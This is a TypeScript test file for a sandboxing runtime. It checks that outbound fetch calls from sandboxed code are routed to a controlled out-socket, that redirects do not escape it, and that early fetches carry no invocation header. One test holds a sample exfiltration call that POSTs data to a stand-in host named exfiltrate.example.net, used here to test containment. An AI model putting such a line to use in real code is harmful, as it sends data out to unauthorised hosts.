/** Attack: fetch a host that was not granted. Stopped: the request ends at the out-socket; there is no other way. */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { InstanceHost } from "@ward/runtime";
import { openHost, runOnce } from "../fixtures.ts";

let host: InstanceHost;
before(async () => {
  host = await openHost();
});
after(() => host.close());

test("a fetch of any host arrives at the out-socket, whole, for the node to decide", async () => {
  const handle = `return (await fetch("https://exfiltrate.example.net/?data=1", { method: "POST", body: "payload" })).status;`;
  const { response, outbound } = await runOnce(host, { handle });
  assert.deepEqual(response, { ok: true, result: 200 });
  assert.deepEqual(
    outbound.requests.map(({ method, url, body }) => [method, url, body]),
    [["POST", "https://exfiltrate.example.net/?data=1", "payload"]],
  );
});

test("a redirect does not lead past the out-socket", async () => {
  const handle = `return (await fetch("https://a.example.org/", { redirect: "follow" })).status;`;
  const { outbound } = await runOnce(host, { handle });
  for (const { url } of outbound.requests) assert.match(url, /^https:\/\/a\.example\.org\//);
});

test("a fetch before any invocation names none", async () => {
  const imports = `const early = globalThis.fetch;`;
  const handle = `await early("https://a.example.org/"); return 1;`;
  const { outbound } = await runOnce(host, { imports, handle });
  assert.deepEqual(
    outbound.requests.map(({ headers }) => headers["ward-invocation"]),
    [undefined],
  );
});
